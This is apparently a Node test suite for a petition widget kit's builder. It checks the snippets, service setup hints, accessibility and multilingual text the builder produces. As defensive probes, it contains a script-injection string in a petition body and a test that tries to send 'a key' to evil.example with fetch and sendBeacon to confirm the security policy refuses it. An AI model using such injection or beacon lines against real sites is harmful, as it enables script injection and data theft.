/**
 * The kit, as somebody without a server has it: unpacked below a site that serves files and nothing
 * else, a petition written in its builder, and signed on a page where the snippet was pasted.
 */
import assert from 'node:assert/strict';
import { readFileSync, renameSync } from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { serve } from '../support/browser.ts';
import { petitionPath } from '../support/services/action-network.ts';
import { formPath } from '../support/services/google-forms.ts';
import { builderWords as sentence, words } from '../support/words.ts';
import { until } from '../support/until.ts';
import { Organiser } from './support/builder.ts';
import { engines } from './support/engines.ts';
import { kinds } from './support/kinds.ts';
import { useKit } from './support/kit.ts';
import { pageFaults } from './support/page-faults.ts';
import { document as pageWith, visitor } from './support/stage.ts';

const kit = useKit();

/** What the form's own menu gives once each answer is the name of what belongs there. */
const link = (origin: string): string =>
  `${origin}${formPath.replace('formResponse', 'viewform')}?usp=pp_url&entry.1000001=Name&entry.1000002=%22email%22&entry.1000003=Country&entry.1000005=consent&entry.1000008=id`;

/** What loses signatures unless it is set so at the service, as the builder says it. */
const settings = {
  en: {
    formspree: [/switch reCAPTCHA off/, /no allowed domains/],
    google: [
      /“Collect email addresses” and “Limit to 1 response” are off/,
      /Publish the form, for “Anyone with the link”/,
    ],
  },
  'zh-Hant': {
    formspree: [/關閉 reCAPTCHA/, /不要列出任何允許的網域/],
    google: [/收集電郵地址.*只限一個回應.*已經關閉/, /發布表單/],
  },
  'zh-Hans': {
    formspree: [/关闭 reCAPTCHA/, /不要列出任何允许的域名/],
    google: [/收集电子邮件地址.*仅限一次回复.*已经关闭/, /发布表单/],
  },
};

const write = async (organiser: Organiser): Promise<void> => {
  await organiser.fill('title-en', 'Keep the library open');
  await organiser.fill('body-en', 'It is the only warm room. </script><script>alert(1)</script>');
  await organiser.fill('consent-controller-en', 'the Friends of the Library');
};

/** What is typed of each service; where signatures really go is put into the snippet, as only the fake's origin differs. */
const services: Readonly<Record<string, { kind: string; real: string; fill: Readonly<Record<string, string>> }>> = {
  formspree: {
    kind: 'formspree',
    real: 'https://formspree.io',
    fill: { 'endpoint-url': 'https://formspree.io/f/xyzabcde' },
  },
  'google-forms': {
    kind: 'google-forms',
    real: 'https://docs.google.com',
    fill: { 'endpoint-url': link('https://docs.google.com') },
  },
  'action-network': {
    kind: 'action-network',
    real: 'https://actionnetwork.org',
    fill: { 'endpoint-url': `https://actionnetwork.org${petitionPath}` },
  },
  proca: {
    kind: 'proca',
    real: 'https://api.proca.app',
    fill: { 'endpoint-url': 'https://api.proca.app/api', 'endpoint-page': '42' },
  },
  form: {
    kind: 'form',
    real: 'https://union.example',
    fill: { 'endpoint-url': 'https://union.example/sign.php', 'endpoint-map-email': 'mail' },
  },
};

const written = async (t: TestContext, name: string) => {
  const visit = await kit.build(t);
  const { organiser } = visit;
  await write(organiser);
  const { kind, fill } = services[name] ?? assert.fail();
  await organiser.choose('endpoint-kind', kind);
  for (const [id, typed] of Object.entries(fill)) await organiser.fill(id, typed);
  await organiser.page.waitForSelector('#way-in-page');
  return visit;
};

for (const [name, { real }] of Object.entries(services))
  test(`${name}: what the builder gives, pasted on a page of another site, is signed there`, async (t) => {
    kit.isOpen = true;
    t.after(() => {
      kit.isOpen = false;
    });
    const writing = await written(t, name);
    const { organiser } = writing;
    assert.deepEqual(await writing.violations(), []);
    assert.equal(await organiser.page.$('#way-tag'), null);
    assert.doesNotMatch(await organiser.text('#result'), /server/i);
    const code = await organiser.copied('[aria-labelledby="way-in-page-name"] button');
    assert.match(code, new RegExp(`src="${kit.files}/petition-widget.js" integrity="sha384-`));
    const service = await (kinds[name] ?? assert.fail()).start();
    t.after(() => service.stop());
    const site = await serve({ '/': { body: pageWith(code.replace(real, service.origin)) } });
    t.after(() => site.stop());
    const visit = await visitor(t, kit.browser);
    await visit.page.goto(site.origin);
    await visit.widget().reaches('ready');
    await visit.widget().sign({ name: '陳 大文', email: 'tai-man@mail.example', country: 'HK' });
    await visit.widget().reaches('signed');
    await visit.widget().says(words(kinds[name]?.outcome === 'sent' ? 'sent-title' : 'signed-title'), '#outcome');
    assert.equal(service.rows.length, 1);
    const values = Object.values(service.rows[0] ?? {});
    assert.ok(values.includes('陳 大文'), values.join());
    // Of the files that the widget needs, and nowhere else.
    const asked = new Set(visit.asked.map(({ url }) => new URL(url).origin));
    assert.deepEqual([...asked].sort(), [site.origin, kit.origin, service.origin].sort());
  });

test('without a header that lets other sites load the files, a page of the same site can be signed, and the builder says so', async (t) => {
  const { organiser } = await written(t, 'formspree');
  const code = await organiser.copied('[aria-labelledby="way-in-page-name"] button');
  const service = await (kinds.formspree ?? assert.fail()).start();
  t.after(() => service.stop());
  kit.pages['/news.html'] = pageWith(code.replace('https://formspree.io', service.origin));
  const visit = await visitor(t, kit.browser);
  await visit.page.goto(`${kit.origin}/news.html`);
  await visit.widget().sign({ name: 'Ada', email: 'ada@mail.example' });
  await visit.widget().reaches('signed');
  assert.equal(service.rows.length, 1);
});

test('where not all files arrived, it says so instead of giving what works nowhere', async (t) => {
  const lost = join(kit.folder, 'petition-widget-0.1.0/petition-widget-languages.js');
  renameSync(lost, `${lost}.away`);
  t.after(() => {
    renameSync(`${lost}.away`, lost);
  });
  const { organiser } = await written(t, 'formspree');
  await organiser.says(sentence('files-missing').replace('{address}', kit.files), '#unreachable');
  await organiser.says('petition-widget-0.1.0', '#upload');
});

test('on web space that other sites cannot load from it says so, but not for a page of its own site', async (t) => {
  const site = 'https://library.example';
  const { page } = await visitor(t, kit.browser);
  await page.setRequestInterception(true);
  page.on('request', (request) => {
    const { pathname, origin } = new URL(request.url());
    if (origin !== site) return void request.continue();
    void fetch(`${kit.origin}${pathname}`).then(async (answer) =>
      request.respond({
        status: answer.status,
        contentType: answer.headers.get('content-type') ?? '',
        body: await answer.bytes(),
      }),
    );
  });
  await page.goto(`${site}/our/kit/builder/index.html`);
  const organiser = await Organiser.at(t, page);
  await write(organiser);
  await organiser.choose('endpoint-kind', 'formspree');
  await organiser.fill('endpoint-url', 'https://formspree.io/f/xyzabcde');
  await page.waitForSelector('#not-open');
  await organiser.fill('page', `${site}/news.html`);
  await page.waitForSelector('#not-open', { hidden: true });
});

test('the address of the folder shows what to read first', async (t) => {
  const { page } = await visitor(t, kit.browser);
  await page.goto(`${kit.origin}/our/kit/`);
  assert.equal(await page.title(), 'READ ME FIRST: the petition kit');
});

for (const lang of ['en', 'zh-Hant', 'zh-Hans'])
  test(`in ${lang}: it warns that nobody else can load files from this computer, and offers the public copy`, async (t) => {
    const { organiser, page } = await kit.build(t, { lang });
    await organiser.says(sentence('endpoint', lang), '#sending');
    await organiser.fill(`title-${lang}`, 'Library');
    await organiser.fill(`body-${lang}`, 'Warm.');
    await organiser.fill(`consent-controller-${lang}`, 'Friends');
    await organiser.says(sentence('to-fill-in', lang), '#result .to-do');
    await organiser.press('#result .to-do a[href="#endpoint-kind"]');
    assert.equal(await organiser.focused(), 'endpoint-kind');
    await organiser.choose('endpoint-kind', 'formspree');
    await organiser.fill('endpoint-url', 'https://formspree.io/f/xyzabcde');
    await organiser.says(sentence('from-machine', lang).replace('{address}', kit.files), '#unreachable');
    await organiser.says('petition-widget-0.1.0', '#upload');
    await organiser.press('#use-copy');
    assert.equal(await page.$('#unreachable'), null);
    assert.match(
      await organiser.snippet('in-page'),
      /src="https:\/\/cdn\.jsdelivr\.net\/npm\/@petitions\/petition-widget@0\.1\.0\/dist\/petition-widget\.js" integrity=/,
    );
  });

test('a petition server elsewhere needs its address, and what is pasted names that server', async (t) => {
  const { organiser, page } = await kit.build(t);
  await write(organiser);
  await organiser.choose('endpoint-kind', 'own');
  await organiser.press('#result .to-do a[href="#endpoint-server"]');
  assert.equal(await organiser.focused(), 'endpoint-server');
  await organiser.fill('endpoint-server', 'https://petitions.example/');
  assert.equal(
    await organiser.snippet('tag'),
    '<script async src="https://petitions.example/petition-widget.js" data-campaign="https://petitions.example/v1/campaigns/keep-the-library-open"></script>',
  );
  assert.equal(await page.$('#way-in-page'), null);
});

test('a Google form: each wrong link is told apart, and what no question has yet is listed', async (t) => {
  const { organiser } = await kit.build(t);
  await organiser.choose('endpoint-kind', 'google-forms');
  const form = 'https://docs.google.com/forms/d/e/1FAIpQLSe-example';
  for (const [pasted, id] of [
    ['https://docs.google.com/forms/d/1abcDEF/edit', 'link-edit'],
    ['https://docs.google.com/forms/d/1abcDEF/prefill', 'link-edit'],
    ['https://forms.gle/abcDEF', 'link-short'],
    [`${form}/closedform`, 'link-closed'],
    [`${form}/viewform?usp=sf_link`, 'link-empty'],
  ] as const) {
    await organiser.fill('endpoint-url', pasted);
    await organiser.says(sentence(id), '#prefilled-outcome');
  }
  await organiser.fill(
    'endpoint-url',
    `${form}/viewform?usp=pp_url&entry.1=E-mail&entry.2=Consent&entry.3=consent&entry.4=Shoe+size`,
  );
  const says = (id: string, put: string) => organiser.says(sentence(id).replace(/\{\w+\}/, put), '#prefilled-outcome');
  await says('prefilled-found', 'email');
  await says('prefilled-lacking', 'name, country, Id');
  await says('prefilled-twice', 'Consent');
  await says('prefilled-strange', 'Shoe size');
});

test('with Action Network the suggested words say that everybody is subscribed, and a second box is advised against', async (t) => {
  const { organiser } = await written(t, 'action-network');
  assert.match(await organiser.value('consent-statement-en'), /Action Network in the USA.*writes to me by e-mail/);
  await organiser.fill('consent-updates-en', 'Keep me informed.');
  await organiser.says(sentence('drop-second-box'), '#second-box');
  await organiser.choose('endpoint-kind', 'formspree');
  assert.doesNotMatch(await organiser.value('consent-statement-en'), /Action Network/);
});

for (const [width, scheme] of [
  [360, 'light'],
  [1280, 'dark'],
] as const)
  test(`at ${width} px, ${scheme}: axe finds nothing, and nothing has to be scrolled sideways`, async (t) => {
    const { organiser, page } = await kit.build(t, { width, scheme });
    await write(organiser);
    await organiser.choose('endpoint-kind', 'google-forms');
    await organiser.fill('endpoint-url', link('https://docs.google.com'));
    await page.waitForSelector('#way-in-page');
    await page.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
    });
    const wide = () => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.deepEqual(await pageFaults(page), []);
    assert.equal(await wide(), 0);
    for (const name of ['READ%20ME%20FIRST.html', 'example.html']) {
      await page.goto(`${kit.origin}/our/kit/${name}`);
      assert.deepEqual(await pageFaults(page), [], name);
      assert.equal(await wide(), 0, name);
    }
  });

for (const lang of ['en', 'zh-Hant', 'zh-Hans'] as const)
  test(`in ${lang}: it says what to set at each service before signatures can arrive`, async (t) => {
    const { organiser, page } = await kit.build(t, { lang });
    const steps = () =>
      page.$$eval('#sending ol.formatting > li', (items) => items.map(({ innerText }) => innerText).join('\n'));
    await organiser.choose('endpoint-kind', 'formspree');
    for (const one of settings[lang].formspree) assert.match(await steps(), one);
    await organiser.choose('endpoint-kind', 'google-forms');
    for (const one of settings[lang].google) assert.match(await steps(), one);
    await organiser.choose('endpoint-kind', 'action-network');
    assert.match(await steps(), /curl -H "OSDI-API-Token: KEY"/);
    for (const kind of ['proca', 'form']) {
      await organiser.choose('endpoint-kind', kind);
      assert.match(await steps(), /captcha/i);
    }
  });

test('the words of consent that it suggests name the service, and where it is', async (t) => {
  const { organiser } = await written(t, 'formspree');
  const box = () => organiser.value('consent-statement-en');
  assert.match(await box(), /with Formspree in the USA/);
  await organiser.choose('endpoint-kind', 'google-forms');
  assert.match(await box(), /with Google in the USA/);
  await organiser.choose('endpoint-kind', 'proca');
  assert.doesNotMatch(await box(), /USA/);
});

test('the mark leads to what to read first, and the example is signed without anything being sent', async (t) => {
  const visit = await kit.build(t);
  const { page } = visit;
  await Promise.all([page.waitForNavigation(), page.click('.wordmark a')]);
  await page.click('#zh-Hant .go a');
  await page.waitForSelector('#start');
  assert.equal(await page.$eval('html', (root) => root.lang), 'zh-Hant');
  await page.goto(`${kit.origin}/our/kit/example.html`);
  await visit.widget().sign({ name: 'Ada', email: 'ada@mail.example' });
  await visit.widget().reaches('signed');
  assert.deepEqual(
    visit.asked.filter(({ method, url }) => method !== 'GET' && method !== 'HEAD' && url !== ''),
    [],
  );
});

test('in Firefox too the example is signed', async (t) => {
  const reader = await engines.Firefox(t);
  await reader.goto(`${kit.origin}/our/kit/example.html`);
  await reader.signs({ name: 'Ada', email: 'ada@mail.example' });
});

test('a script that gets into the builder can send nothing to others', async (t) => {
  const visit = await kit.build(t);
  await visit.page.evaluate(async (elsewhere) => {
    await fetch(elsewhere).catch(() => undefined);
    navigator.sendBeacon(elsewhere, 'a key');
  }, 'https://evil.example/');
  await until('both are refused', async () => (await visit.violations()).length === 2);
  assert.deepEqual(await visit.violations(), ['connect-src', 'connect-src']);
});

test('opened from a folder by a double click, the builder writes, warns, and gives what works with the public copy', async (t) => {
  const address = `file://${join(kit.folder, 'builder', 'index.html')}`;
  const visit = await kit.build(t, { address });
  const { organiser } = visit;
  await write(organiser);
  await organiser.choose('endpoint-kind', 'formspree');
  await organiser.fill('endpoint-url', 'https://formspree.io/f/xyzabcde');
  await organiser.says(sentence('from-file'), '#unreachable');
  await visit.widget().says('Keep the library open');
  assert.deepEqual(await visit.violations(), []);
  await organiser.press('#use-copy');
  assert.match(await organiser.snippet('in-page'), /cdn\.jsdelivr\.net.*integrity="sha384-/);
});

test('what is shipped names no address of this machine and has no placeholder left', () => {
  for (const name of ['READ ME FIRST.html', 'example.html', 'builder/index.html', '.htaccess'])
    assert.doesNotMatch(
      readFileSync(join(kit.folder, name === '.htaccess' ? `petition-widget-0.1.0/${name}` : name), 'utf8'),
      /__\w+__|localhost|="\/(?!\/)/,
      name,
    );
});
